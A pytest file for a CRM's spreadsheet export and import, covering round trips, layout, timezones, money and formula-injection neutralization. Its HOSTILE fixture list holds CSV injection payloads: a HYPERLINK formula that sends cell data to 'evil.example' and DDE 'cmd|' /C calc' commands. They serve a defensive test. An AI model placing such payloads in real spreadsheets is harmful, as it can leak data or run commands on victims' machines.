"""Export to XLSX and CSV: layout, the manager's clock, money, formula neutralization, and the
round trip export -> import that must give back exactly the clients and contacts."""

from __future__ import annotations

import csv
import io
import string
from datetime import UTC, date, datetime
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook  # type: ignore[import-untyped, unused-ignore]

from bot.services.crm.birthdays import Birthday
from bot.services.exchange.exporting import (
    CLIENT_HEADERS,
    INFO_HEADERS,
    ExportClient,
    ExportContact,
    ExportData,
    ExportNote,
    ExportSale,
    ExportTouch,
    Language,
    build_csvs,
    build_workbook,
    neutralize,
)
from bot.services.exchange.importing import (
    FIELDS,
    NOTE_SHEET,
    ClientDraft,
    ImportFileError,
    map_columns,
    parse_file,
)
from bot.services.parsing.names import normalize_name
from bot.services.parsing.phones import normalize_phone
from tests.support.spreadsheets import inn10, inn12

TODAY = date(2026, 11, 28)
NOON_UTC = datetime(2026, 11, 28, 12, 0, tzinfo=UTC)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")

Shape = tuple[object, ...]


def client_shape(client: ExportClient) -> Shape:
    """What must survive the round trip, in importing's terms."""
    contacts = tuple(
        (
            c.name,
            c.role,
            normalize_phone(c.phone) if c.phone else None,
            c.email,
            Birthday(c.birth_day, c.birth_month, c.birth_year)
            if c.birth_day is not None and c.birth_month is not None
            else None,
        )
        for c in client.contacts
    )
    return (
        client.name,
        client.tax_id,
        normalize_phone(client.phone) if client.phone else None,
        client.segment,
        client.tier,
        client.status,
        client.cadence_days,
        client.preferred_channel,
        tuple(client.tags),
        contacts,
    )


def draft_shape(draft: ClientDraft) -> Shape:
    contacts = tuple((c.name, c.role, c.phone, c.email, c.birthday) for c in draft.contacts)
    return (
        draft.name,
        draft.tax_id,
        draft.phone,
        draft.segment,
        draft.tier,
        draft.status,
        draft.cadence_days,
        draft.preferred_channel,
        draft.tags,
        contacts,
    )


def round_trip(data: ExportData, form: str) -> list[Shape]:
    if form == "xlsx":
        content, filename = build_workbook(data), "export.xlsx"
    else:
        content, filename = build_csvs(data)["clients.csv"], "clients.csv"
    result = parse_file(content, filename, TODAY)
    assert result.parsed.errors == []
    assert result.mapping.ignored == []
    return [draft_shape(client) for client in result.clients]


def rich_data(language: Language = "ru") -> ExportData:
    clients = [
        ExportClient(
            id=1,
            name="ООО «Ромашка»",
            segment="b2b",
            tier="key",
            status="active",
            cadence_days=7,
            preferred_channel="call",
            tax_id=inn10(1),
            phone="8 (495) 123-45-67",
            tags=("опт", "важный клиент", "-скидка"),
            owner_name="Мария",
            created_at=NOON_UTC,
            contacts=[
                ExportContact("Иван Петров", role="Генеральный директор", phone="+79161234567",
                              email="ivan@romashka.ru", birth_day=12, birth_month=3,
                              birth_year=1980),
                ExportContact("Анна Смирнова", role="@buyer", birth_day=29, birth_month=2),
                ExportContact("'Кузя'", phone="8 916 765-43-21"),
            ],
        ),
        ExportClient(id=2, name="Вектор", segment="b2c", tier="regular", status="paused",
                     preferred_channel="message", tax_id=inn12(2), archived=True),
        ExportClient(id=3, name="+Плюс", status="lost", cadence_days=90,
                     preferred_channel="meeting", contacts=[ExportContact("Ольга")]),
        ExportClient(id=4, name="Acme Ltd", preferred_channel="email", tax_id=inn10(3, 2),
                     contacts=[ExportContact("John Smith", role="CEO", phone="+44 20 7946 0958",
                                             email="john@acme.co.uk", birth_day=1,
                                             birth_month=12, birth_year=1975)]),
        ExportClient(id=5, name="Визит-Сервис", preferred_channel="visit"),
    ]  # fmt: skip
    return ExportData(
        clients=clients,
        touches=[
            ExportTouch(
                "ООО «Ромашка»",
                "call",
                NOON_UTC,
                "positive",
                "обсудили поставку",
                "КП",
                datetime(2026, 12, 4, 7, 0, tzinfo=UTC),
                next_step_has_time=True,
                next_step_done_at=datetime(2026, 12, 4, 8, 30, tzinfo=UTC),
                contact_name="Иван Петров",
            ),
            ExportTouch(
                "Вектор",
                "meeting",
                NOON_UTC,
                next_step="позвонить",
                next_step_due_at=datetime(2026, 12, 6, 19, 0, tzinfo=UTC),  # local midnight
            ),
        ],
        notes=[
            ExportNote(
                "ООО «Ромашка»",
                "Иван Петров",
                "Сын сдаёт ЕГЭ\nв июне",
                NOON_UTC,
                ("семья",),
                True,
                datetime(2027, 6, 1, 6, 0, tzinfo=UTC),
            ),
        ],
        sales=[
            ExportSale("ООО «Ромашка»", 15_000_050, "RUB", NOON_UTC, "Опт"),
            ExportSale("Acme Ltd", 1500, "JPY", NOON_UTC),
            ExportSale("Acme Ltd", -250_000, "USD", NOON_UTC, "возврат"),
        ],
        timezone="Asia/Yekaterinburg",
        language=language,
    )


def workbook_rows(content: bytes) -> dict[str, list[list[Any]]]:
    workbook = load_workbook(io.BytesIO(content))
    return {
        sheet.title: [[cell.value for cell in row] for row in sheet.iter_rows()]
        for sheet in workbook.worksheets
    }


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))


# --- round trip ------------------------------------------------------------------------------


@pytest.mark.parametrize("language", ["ru", "en"])
@pytest.mark.parametrize("form", ["xlsx", "csv"])
def test_round_trip_of_a_rich_base(form: str, language: Language) -> None:
    data = rich_data(language)

    assert round_trip(data, form) == [client_shape(client) for client in data.clients]


def test_exported_client_headers_are_exactly_the_import_columns() -> None:
    languages: tuple[Language, ...] = ("ru", "en")
    for language in languages:
        headers = [h[language] for h in (*CLIENT_HEADERS.values(), *INFO_HEADERS.values())]

        mapping = map_columns(headers)

        assert list(mapping.columns) == list(FIELDS)
        assert list(mapping.columns.values()) == list(range(len(FIELDS)))
        assert mapping.ignored == []
        assert mapping.not_imported == headers[len(FIELDS) :]


_CYRILLIC = "абвгдеёжзийклмнопрстуфхцчшщъыьэюяАБВГДЕЁЖЗИЙКЛМНОПРСТУФХЦЧШЩЪЫЬЭЮЯ"
_LETTERS = _CYRILLIC + string.ascii_letters + string.digits
_word = st.text(alphabet=_LETTERS + "-'«»\".&+@", min_size=1, max_size=10).filter(
    lambda w: any(ch.isalnum() for ch in w)
)
_text = st.lists(_word, min_size=1, max_size=3).map(" ".join)
_tag = st.lists(st.text(alphabet=_LETTERS + "-_", min_size=1, max_size=8), min_size=1,
                max_size=2).map(" ".join)  # fmt: skip
_phone = st.builds(
    lambda digits, national: (
        f"8 ({digits[:3]}) {digits[3:6]}-{digits[6:8]}-{digits[8:]}" if national else f"+7{digits}"
    ),
    # Allocated Russian mobile codes: without "+7" a number must be a real one (libphonenumber),
    # and parts of some 9xx codes (930 0…) are not allocated.
    st.builds(
        str.__add__,
        st.sampled_from(["916", "926", "903", "985", "912", "921", "999"]),
        st.text(alphabet=string.digits, min_size=7, max_size=7),
    ),
    st.booleans(),
)
_email = st.from_regex(r"[a-z0-9._]{1,10}@[a-z]{1,8}\.(ru|com)", fullmatch=True)


@st.composite
def _contact(draw: st.DrawFn) -> ExportContact:
    born = draw(st.none() | st.dates(min_value=date(1930, 1, 1), max_value=date(2005, 12, 31)))
    with_year = draw(st.booleans())
    return ExportContact(
        name=draw(_text),
        role=draw(st.none() | _text),
        phone=draw(st.none() | _phone),
        email=draw(st.none() | _email),
        birth_day=born.day if born else None,
        birth_month=born.month if born else None,
        birth_year=born.year if born and with_year else None,
    )


@st.composite
def _client(draw: st.DrawFn, index: int, name: str) -> ExportClient:
    tax_id = draw(st.sampled_from([None, inn10(index), inn12(index)]))
    return ExportClient(
        id=index,
        name=name,
        segment=draw(st.sampled_from(["b2b", "b2c"])),
        tier=draw(st.sampled_from(["key", "regular"])),
        status=draw(st.sampled_from(["active", "paused", "lost"])),
        cadence_days=draw(st.none() | st.integers(1, 365)),
        preferred_channel=draw(
            st.none() | st.sampled_from(["call", "message", "email", "visit", "meeting"])
        ),
        tax_id=tax_id,
        phone=draw(st.none() | _phone),
        tags=tuple(draw(st.lists(_tag, max_size=3, unique_by=str.casefold))),
        archived=draw(st.booleans()),
        contacts=draw(st.lists(_contact(), max_size=3, unique_by=lambda c: normalize_name(c.name))),
    )


@st.composite
def _bases(draw: st.DrawFn) -> ExportData:
    # Distinct clients: names that normalize apart (else import merges them, by design).
    names = draw(st.lists(_text, min_size=1, max_size=6, unique_by=normalize_name))
    clients = [draw(_client(index, name)) for index, name in enumerate(names, 1)]
    return ExportData(clients=clients, language=draw(st.sampled_from(["ru", "en"])))


@pytest.mark.parametrize("form", ["xlsx", "csv"])
@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(data=_bases())
def test_round_trip_of_generated_bases(form: str, data: ExportData) -> None:
    assert round_trip(data, form) == [client_shape(client) for client in data.clients]


def test_an_empty_base_exports_headers_that_import_calls_empty() -> None:
    data = ExportData()

    sheets = workbook_rows(build_workbook(data))

    assert list(sheets) == [
        "Клиенты", "Касания", "Заметки", "Продажи", "Запросы", "Отзывы", "Планы", "Напоминания",
    ]  # fmt: skip
    assert all(len(rows) == 1 for rows in sheets.values())
    with pytest.raises(ImportFileError) as caught:
        parse_file(build_workbook(data), "export.xlsx", TODAY)
    assert caught.value.key == "import-file-empty"


# --- layout ----------------------------------------------------------------------------------


def test_workbook_layout() -> None:
    workbook = load_workbook(io.BytesIO(build_workbook(rich_data("en"))))

    assert workbook.sheetnames == [
        "Clients", "Touches", "Notes", "Sales", "Requests", "Reviews", "Plans", "Reminders",
    ]  # fmt: skip
    clients = workbook["Clients"]
    assert clients.freeze_panes == "A2"
    assert clients.auto_filter.ref == "A1:R8"  # 18 columns; a header and 3 + 1 + 1 + 1 + 1 rows
    assert clients["A1"].font.bold
    widths = [clients.column_dimensions[col].width for col in "ABCDEFGHIJKLMNOPQR"]
    assert all(8 <= width <= 50 for width in widths)
    assert widths[0] >= len("ООО «Ромашка»")
    for title in ("Touches", "Notes", "Sales"):
        assert workbook[title].freeze_panes == "A2"
        assert workbook[title].auto_filter.ref is not None


def test_clients_sheet_has_one_row_per_contact_and_a_row_for_a_client_without_them() -> None:
    rows = workbook_rows(build_workbook(rich_data()))["Клиенты"]

    assert [row[0] for row in rows[1:]] == [
        "ООО «Ромашка»", "ООО «Ромашка»", "ООО «Ромашка»", "Вектор", "'+Плюс", "Acme Ltd",
        "Визит-Сервис",
    ]  # fmt: skip
    vector = rows[4]
    assert vector[9:14] == [None] * 5
    assert vector[14:17] == [2, "да", None]
    assert rows[1][13] == "12.03.1980"
    assert rows[2][13] == "29.02"


def test_times_are_in_the_managers_timezone() -> None:
    data = rich_data()
    sheets = workbook_rows(build_workbook(data))
    files = build_csvs(data)

    touch = sheets["Касания"][1]
    assert sheets["Касания"][0][2] == "Когда (Asia/Yekaterinburg)"
    assert touch[2] == datetime(2026, 11, 28, 17, 0)  # noqa: DTZ001 - Excel stores wall time
    assert touch[6] == datetime(2026, 12, 4, 12, 0)  # noqa: DTZ001
    assert sheets["Касания"][0][7:] == ["Контакт", "Шаг выполнен (Asia/Yekaterinburg)"]
    assert touch[7:] == ["Иван Петров", datetime(2026, 12, 4, 13, 30)]  # noqa: DTZ001
    assert csv_rows(files["touches.csv"])[1][2] == "28.11.2026 17:00"
    # A step due on a day without an hour is a date, not a date at midnight.
    assert csv_rows(files["touches.csv"])[2][6] == "07.12.2026"
    english = build_csvs(rich_data("en"))
    assert csv_rows(english["touches.csv"])[1][2] == "2026-11-28 17:00"


def test_money_is_a_number_in_major_units_with_its_currency() -> None:
    sales = workbook_rows(build_workbook(rich_data()))["Продажи"]

    assert [row[2:4] for row in sales[1:]] == [[150000.5, "RUB"], [1500, "JPY"], [-2500, "USD"]]
    ru = csv_rows(build_csvs(rich_data("ru"))["sales.csv"])
    en = csv_rows(build_csvs(rich_data("en"))["sales.csv"])
    assert [row[2] for row in ru[1:]] == ["150000,50", "1500", "-2500,00"]
    assert [row[2] for row in en[1:]] == ["150000.50", "1500", "-2500.00"]


def test_csv_files_are_utf8_with_bom_and_semicolons() -> None:
    files = build_csvs(rich_data())

    assert sorted(files) == [
        "clients.csv", "notes.csv", "plans.csv", "reminders.csv", "requests.csv", "reviews.csv",
        "sales.csv", "touches.csv",
    ]  # fmt: skip
    raw = files["clients.csv"]
    assert raw.startswith(b"\xef\xbb\xbf\xd0\x9a\xd0\xbb\xd0\xb8\xd0\xb5\xd0\xbd\xd1\x82;")
    notes = csv_rows(files["notes.csv"])
    assert notes[1][2] == "Сын сдаёт ЕГЭ\nв июне"  # a quoted line break, not a new record
    assert notes[1][4] == "да"


def test_importing_the_whole_workbook_reads_the_clients_sheet() -> None:
    result = parse_file(build_workbook(rich_data()), "export.xlsx", TODAY)

    assert result.table.sheet == "Клиенты"
    assert NOTE_SHEET in result.table.notes
    assert result.mapping.not_imported == ["ID", "В архиве", "Ответственный", "Создан"]


# --- formula injection -----------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Нажми")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]


def hostile_data() -> ExportData:
    return ExportData(
        clients=[
            ExportClient(
                id=1,
                name="Ромашка",
                phone="+79161234567",
                tags=(HOSTILE[3],),
                contacts=[ExportContact(HOSTILE[0], role=HOSTILE[1], phone="+79160000000")],
            )
        ],
        touches=[ExportTouch("Ромашка", "call", NOON_UTC, None, HOSTILE[4], HOSTILE[2])],
        notes=[ExportNote(HOSTILE[5], None, HOSTILE[0], NOON_UTC, (HOSTILE[1],))],
        sales=[ExportSale("Ромашка", 100, "RUB", NOON_UTC, HOSTILE[2])],
    )


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+7 916", "'+7 916"),
        ("-менеджер", "'-менеджер"),
        ("@ivan", "'@ivan"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'quoted'", "''quoted'"),  # so that import strips exactly the one we add
        ("-1500", "-1500"),  # a number is not a formula
        ("-1500,5", "-1500,5"),
        ("Ромашка", "Ромашка"),
        ("", ""),
    ],
)
def test_neutralize(text: str, expected: str) -> None:
    assert neutralize(text) == expected


def test_xlsx_has_no_formulas_and_every_dangerous_text_is_neutralized() -> None:
    workbook = load_workbook(io.BytesIO(build_workbook(hostile_data())))
    phones = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if not isinstance(cell.value, str):
                    continue
                if cell.quotePrefix:
                    phones.append(cell.value)
                else:
                    assert not cell.value.startswith(DANGEROUS), (sheet.title, cell.value)
    # Phones are "+" and digits in a quote-prefixed text cell: inert, and shown without "'".
    assert phones == ["+79161234567", "+79160000000"]
    texts = {c.value for s in workbook.worksheets for r in s.iter_rows() for c in r}
    # XML reads a bare CR back as LF; the apostrophe is what matters.
    assert {"'" + text.replace("\r", "\n") for text in HOSTILE} <= texts


def test_csv_every_dangerous_text_is_neutralized_including_phones() -> None:
    seen: set[str] = set()
    for content in build_csvs(hostile_data()).values():
        for row in csv_rows(content):
            for value in row:
                assert not value.startswith(DANGEROUS), value
                seen.add(value)
    assert {"'" + text for text in HOSTILE} <= seen
    assert "'+79161234567" in seen


@pytest.mark.parametrize("form", ["xlsx", "csv"])
def test_neutralized_values_come_back_unchanged(form: str) -> None:
    client = ExportClient(
        id=1,
        name="-Минус",
        phone="+79161234567",
        tags=("@важный", "+опт"),
        contacts=[ExportContact("@Иван", role="-зам. директора", phone="+79160000000")],
    )

    shapes = round_trip(ExportData(clients=[client]), form)

    assert shapes == [client_shape(client)]


def test_hostile_formulas_go_out_neutralized_and_come_back_as_inert_text() -> None:
    client = ExportClient(id=1, name="Ромашка", contacts=[ExportContact("Иван", role=HOSTILE[0])])
    content = build_csvs(ExportData(clients=[client]))["clients.csv"]

    assert b"'=HYPERLINK(" in content
    result = parse_file(content, "clients.csv", TODAY)

    assert result.parsed.errors == []
    assert result.clients[0].contacts[0].role == HOSTILE[0]


def test_illegal_control_characters_do_not_break_the_workbook() -> None:
    note = ExportNote("Ромашка", None, "звонок\x00\x07 в пятницу", NOON_UTC)

    sheets = workbook_rows(build_workbook(ExportData(notes=[note])))

    assert sheets["Заметки"][1][2] == "звонок в пятницу"


def test_a_text_longer_than_an_excel_cell_is_cut_in_xlsx_and_whole_in_csv() -> None:
    note = ExportNote("Ромашка", None, "я" * 40_000, NOON_UTC)
    data = ExportData(notes=[note])

    cell = workbook_rows(build_workbook(data))["Заметки"][1][2]

    assert cell == "я" * 32_767
    assert csv_rows(build_csvs(data)["notes.csv"])[1][2] == "я" * 40_000
